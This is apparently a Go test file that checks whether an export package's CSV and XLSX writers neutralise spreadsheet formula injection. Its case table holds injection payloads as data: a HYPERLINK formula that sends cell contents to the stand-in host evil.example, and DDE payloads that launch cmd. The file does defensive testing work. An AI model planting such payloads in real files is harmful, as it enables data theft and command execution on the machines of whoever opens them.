package export

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulaCases are text values a spreadsheet would evaluate if a cell began with them,
// or a cell after a separator inside them (OWASP CSV injection), and harmless ones that
// must stay as they are. The rule itself is shared/csvcell's.
var formulaCases = []struct {
	text, csv string // the stored text, and the csv field it must become
}{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"-2+3", "'-2+3"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t'=1+1"}, // a tab starts a cell, and so does what follows it
	{"\r=1+1", "'\r'=1+1"},
	{"Ana;=1+2", "Ana;'=1+2"}, // a spreadsheet splitting on ; would start a cell at =
	{"Ana|@SUM(1)", "Ana|'@SUM(1)"},
	{"Ana\n-2+3", "Ana\n'-2+3"},
	{"-5", "'-5"}, // text that looks like a number is still text in a text column
	{"'already quoted", "'already quoted"},
	{"Ana =1+1", "Ana =1+1"},
	{"ção 漢字 🎉", "ção 漢字 🎉"},
	{"", ""},
}

// TestCSVNeutralizesFormulas writes the cases in a text column next to negative numbers
// in typed columns and reads the file back with encoding/csv: text that would start a
// formula carries a leading single quote; numbers are written as numbers.
func TestCSVNeutralizesFormulas(t *testing.T) {
	cols := []Column{{"name", "", Text}, {"points", "", Integer}, {"value", "", Decimal}}
	var out bytes.Buffer
	w, err := newCSVWriter(&out, cols)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range formulaCases {
		if err := w.Row([]any{c.text, int64(-42), decimal{text: "-12.50", float: -12.5}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&out)
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read csv back: %v", err)
	}
	if len(records) != len(formulaCases)+1 {
		t.Fatalf("%d records, want %d", len(records), len(formulaCases)+1)
	}
	for i, c := range formulaCases {
		rec := records[i+1]
		if rec[0] != c.csv {
			t.Errorf("text %q written as %q, want %q", c.text, rec[0], c.csv)
		}
		if rec[1] != "-42" || rec[2] != "-12.50" {
			t.Errorf("numbers written as %q %q, want -42 -12.50 untouched", rec[1], rec[2])
		}
	}
}

// TestXLSXTextIsNeverAFormula writes the same cases through the xlsx writer and opens the
// file with excelize: every text cell holds the text exactly, as a string cell without a
// formula, and the negative numbers are number cells.
func TestXLSXTextIsNeverAFormula(t *testing.T) {
	cols := []Column{{"name", "", Text}, {"points", "", Integer}}
	var out bytes.Buffer
	w, err := newXLSXWriter(&out, "things", cols, excelMaxRows)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range formulaCases {
		if err := w.Row([]any{c.text, int64(-42)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatalf("open xlsx: %v", err)
	}
	defer f.Close()
	for i, c := range formulaCases {
		row := i + 2
		name, _ := excelize.CoordinatesToCellName(1, row)
		if formula, _ := f.GetCellFormula("things", name); formula != "" {
			t.Errorf("%s holds the formula %q", name, formula)
		}
		got, _ := f.GetCellValue("things", name, excelize.Options{RawCellValue: true})
		if got != c.text {
			t.Errorf("%s = %q, want the text %q as written", name, got, c.text)
		}
		if typ, _ := f.GetCellType("things", name); c.text != "" && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s type %v, want a string cell", name, typ)
		}
		num, _ := excelize.CoordinatesToCellName(2, row)
		if typ, _ := f.GetCellType("things", num); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s type %v, want a number", num, typ)
		}
		if v, _ := f.GetCellValue("things", num, excelize.Options{RawCellValue: true}); v != "-42" {
			t.Errorf("%s = %q, want -42", num, v)
		}
	}
}
